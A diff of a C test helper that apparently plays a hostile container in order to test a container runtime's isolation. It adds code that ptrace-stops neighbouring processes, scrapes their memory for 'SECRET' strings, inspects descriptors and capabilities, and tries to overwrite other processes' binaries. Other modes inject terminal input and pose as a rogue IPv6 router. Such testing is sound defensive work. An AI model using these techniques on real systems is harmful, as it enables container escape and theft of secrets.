@@ -1,13 +1,13 @@
 /*
  * What a hostile container does while the host's runtime works on it; for tests:
  *
- *   attack spy SECONDS       looks into every process that appears beside it: descriptors, root, directory, environment
- *   attack exe SECONDS       tries to write to the binary of every such process, also after it has ended
- *   attack inject TEXT       pushes characters into the terminal on descriptor 0
- *   attack writable DIR…     files below that can be opened for writing; nothing is written
- *   attack keys              the session keyring and the names of the keys in it
- *   attack advertise INTERFACE PREFIX     plays an IPv6 router: a default route and addresses of PREFIX/64 for
- * everybody attack with-key NAME PROGRAM [ARG…]   (on the host) executes PROGRAM with such a key in the session keyring
+ *   attack spy SECONDS       stops every process that appears beside it and looks into it: descriptors, root,
+ * directory, environment, memory, capabilities attack exe SECONDS       tries to write to the binary of every such
+ * process, also after it has ended attack inject TEXT       pushes characters into the terminal on descriptor 0 attack
+ * writable DIR…     files below that can be opened for writing; nothing is written attack keys              the session
+ * keyring and the names of the keys in it attack advertise INTERFACE PREFIX     plays an IPv6 router: a default route
+ * and addresses of PREFIX/64 for everybody attack with-key NAME PROGRAM [ARG…]   (on the host) executes PROGRAM with
+ * such a key in the session keyring
  */
 #include <arpa/inet.h>
 #include <dirent.h>
@@ -27,33 +27,34 @@
 #include <time.h>
 #include <unistd.h>
 
-#define AHEAD 4
-
 static double now(void) {
   struct timespec at;
   clock_gettime(CLOCK_MONOTONIC, &at);
   return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
 }
 
-/* Calls `look` for pids after ours as soon as they exist, until time is up. Returns how many looks met a process. */
+/* The youngest process of the namespace that our procfs shows. */
+static int last_pid(void) {
+  char text[128] = "";
+  int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+  ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
+  const char *last = n < 0 ? NULL : strrchr(text, ' ');
+  if (fd >= 0) {
+    close(fd);
+  }
+  return last == NULL ? 0 : atoi(last);
+}
+
+/* Calls `look` for pids after ours as soon as they exist and as long as they live, until time is up. Returns how many
+   looks met a process. */
 static long hunt(double seconds, int (*look)(int pid)) {
   double end = now() + seconds;
   int next = getpid() + 1;
   long met = 0;
   while (now() < end) {
-    for (int round = 0; round < 200; round++) {
-      for (int pid = next; pid < next + AHEAD; pid++) {
-        char path[32];
-        snprintf(path, sizeof(path), "/proc/%d/stat", pid);
-        if (access(path, F_OK) < 0) {
-          continue;
-        }
-        /* As long as it lives. */
-        while (look(pid) >= 0) {
-          met++;
-        }
-        next = pid + 1;
-        break;
+    for (int last = last_pid(); next <= last; next++) {
+      while (look(next) >= 0) {
+        met++;
       }
     }
   }
@@ -66,7 +67,8 @@ static void tell(int pid, const char *what, const char *target) {
 }
 
 static int harmless(const char *target) {
-  static const char *const starts[] = {"pipe:", "socket:", "/dev/null", "anon_inode:[pidfd]", "/proc/"};
+  /* The last one: of a procfs that shows what we see ourselves. */
+  static const char *const starts[] = {"pipe:", "socket:", "/dev/null", "/proc/", "anon_inode:[fscontext]"};
   for (size_t i = 0; i < sizeof(starts) / sizeof(starts[0]); i++) {
     if (strncmp(target, starts[i], strlen(starts[i])) == 0) {
       return 1;
@@ -75,65 +77,159 @@ static int harmless(const char *target) {
   return 0;
 }
 
-/* A root shows as "/" whosever it is. One that is gone by now is nobody's. */
-static int is_our_root(const char *path) {
-  struct stat at, ours;
-  if (stat(path, &at) < 0) {
-    return errno == ENOENT || errno == ESRCH;
-  }
-  return stat("/", &ours) == 0 && at.st_dev == ours.st_dev && at.st_ino == ours.st_ino;
+/* A root shows as "/" whosever it is: containers of the tests have this file. One that is gone by now is nobody's. */
+static int is_root_of_container(const char *path) {
+  char mark[300];
+  struct stat at;
+  snprintf(mark, sizeof(mark), "%s/bin/payload", path);
+  return stat(path, &at) < 0 ? errno == ENOENT || errno == ESRCH : stat(mark, &at) == 0;
 }
 
-static int spy_on(int pid) {
-  char path[64], target[256], text[4096];
-  static const char *const links[] = {"cwd", "root"};
-  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+/* One that shows nothing is as good. */
+static int is_empty(const char *path) {
   DIR *dir = opendir(path);
+  struct dirent *entry;
+  int count = 0;
+  while (dir != NULL && (entry = readdir(dir)) != NULL) {
+    count++;
+  }
+  if (dir != NULL) {
+    closedir(dir);
+  }
+  return dir != NULL && count <= 2;
+}
+
+static void spy_on_links(int pid) {
+  static const char *const links[] = {"cwd", "root"};
+  char path[64], target[256];
   for (int i = 0; i < 2; i++) {
     snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
     ssize_t n = readlink(path, target, sizeof(target) - 1);
-    if (n > 0 && !is_our_root(path)) {
+    if (n > 0 && !is_root_of_container(path) && !is_empty(path)) {
       target[n] = '\0';
       tell(pid, links[i], target);
     }
   }
-  snprintf(path, sizeof(path), "/proc/%d/environ", pid);
-  int environment = open(path, O_RDONLY);
-  ssize_t size = environment < 0 ? 0 : read(environment, text, sizeof(text) - 1);
-  text[size < 0 ? 0 : size] = '\0';
-  for (char *word = text; word < text + size; word += strlen(word) + 1) {
-    if (strstr(word, "SECRET") != NULL) {
-      tell(pid, "environment", word);
-    }
-  }
-  if (environment >= 0) {
-    close(environment);
-  }
-  if (dir == NULL) {
-    return errno == EACCES ? 0 : -1;
-  }
+}
+
+static void spy_on_descriptors(int pid) {
+  char path[64], target[256];
   struct dirent *entry;
-  int seen = 0;
-  while ((entry = readdir(dir)) != NULL) {
-    seen++;
+  snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+  DIR *dir = opendir(path);
+  while (dir != NULL && (entry = readdir(dir)) != NULL) {
     snprintf(path, sizeof(path), "/proc/%d/fd/%.16s", pid, entry->d_name);
     ssize_t n = entry->d_name[0] == '.' ? -1 : readlink(path, target, sizeof(target) - 1);
     if (n > 0) {
       target[n] = '\0';
-      if (!harmless(target) && !is_our_root(path)) {
+      if (!harmless(target) && !is_root_of_container(path)) {
         tell(pid, "descriptor", target);
       }
     }
   }
-  closedir(dir);
-  return seen == 0 ? -1 : 0;
+  if (dir != NULL) {
+    closedir(dir);
+  }
+}
+
+/* Its command line and environment are part of that. */
+static void spy_on_memory(int pid) {
+  static char text[1 << 16];
+  char path[64], line[512], rights[8];
+  unsigned long long from, to;
+  snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+  FILE *maps = fopen(path, "re");
+  snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+  int memory = open(path, O_RDONLY | O_CLOEXEC);
+  while (maps != NULL && memory >= 0 && fgets(line, sizeof(line), maps) != NULL) {
+    if (sscanf(line, "%llx-%llx %7s", &from, &to, rights) != 3 || rights[1] != 'w') {
+      continue;
+    }
+    for (unsigned long long at = from; at < to; at += sizeof(text) - 16) {
+      size_t size = to - at < sizeof(text) ? (size_t)(to - at) : sizeof(text);
+      ssize_t n = pread(memory, text, size, (off_t)at);
+      const char *found = n > 0 ? memmem(text, (size_t)n, "SECRET", 6) : NULL;
+      if (found != NULL) {
+        char shown[40];
+        snprintf(shown, sizeof(shown), "%.*s", (int)(text + n - found < 39 ? text + n - found : 39), found);
+        tell(pid, "memory", shown);
+        break;
+      }
+    }
+  }
+  if (maps != NULL) {
+    fclose(maps);
+  }
+  if (memory >= 0) {
+    close(memory);
+  }
+}
+
+static unsigned long long capabilities_of(int pid, int *ret_filter) {
+  char path[64], line[256];
+  unsigned long long held = 0;
+  snprintf(path, sizeof(path), "/proc/%d/status", pid);
+  FILE *status = fopen(path, "re");
+  *ret_filter = 0;
+  while (status != NULL && fgets(line, sizeof(line), status) != NULL) {
+    (void)sscanf(line, "CapPrm: %llx", &held);
+    (void)sscanf(line, "Seccomp: %d", ret_filter);
+  }
+  if (status != NULL) {
+    fclose(status);
+  }
+  return held;
+}
+
+/* What it may do could be done with it by whoever traces it, unless it is confined. */
+static void spy_on_capabilities(int pid) {
+  char shown[32];
+  int filter = 0, own = 0;
+  unsigned long long more = capabilities_of(pid, &filter) & ~capabilities_of(getpid(), &own);
+  if (more != 0 && filter == 0) {
+    snprintf(shown, sizeof(shown), "%llx", more);
+    tell(pid, "capabilities", shown);
+  }
+}
+
+static int has_ended(int pid) {
+  char path[64], text[256] = "";
+  snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+  int stat = open(path, O_RDONLY | O_CLOEXEC);
+  ssize_t n = stat < 0 ? -1 : read(stat, text, sizeof(text) - 1);
+  const char *after = n < 0 ? NULL : strrchr(text, ')');
+  if (stat >= 0) {
+    close(stat);
+  }
+  return after == NULL || after[2] == 'Z' || after[2] == 'X';
+}
+
+static long held;
+
+static int spy_on(int pid) {
+  int status = 0;
+  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
+    return has_ended(pid) ? -1 : 0;
+  }
+  if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
+    held++;
+    spy_on_links(pid);
+    spy_on_descriptors(pid);
+    spy_on_memory(pid);
+    spy_on_capabilities(pid);
+    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
+    printf("held %ld\n", held);
+    fflush(stdout);
+    return -1; /* Once is enough, it was all there. */
+  }
+  return -1;
 }
 
 static int do_spy(char **args) {
   printf("spying\n");
   fflush(stdout);
-  long met = hunt(atof(args[0]), spy_on);
-  printf("looked %ld times\n", met);
+  (void)hunt(atof(args[0]), spy_on);
+  printf("looked %ld times\n", held);
   return 0;
 }
 
@@ -146,15 +242,15 @@ static int write_to(int pid) {
     return errno == EACCES ? 0 : -1;
   }
   target[n] = '\0';
-  int held = open(path, O_PATH | O_CLOEXEC);
-  if (held < 0) {
+  int kept = open(path, O_PATH | O_CLOEXEC);
+  if (kept < 0) {
     return 0;
   }
-  snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
+  snprintf(again, sizeof(again), "/proc/self/fd/%d", kept);
   n = readlink(again, target, sizeof(target) - 1);
   target[n < 0 ? 0 : n] = '\0';
   if (strncmp(target, "/bin/", 5) == 0) {
-    close(held);
+    close(kept);
     return 0; /* The container's own. */
   }
   printf("binary %s\n", target);
@@ -169,7 +265,7 @@ static int write_to(int pid) {
       break;
     }
   }
-  close(held);
+  close(kept);
   return -1;
 }
 
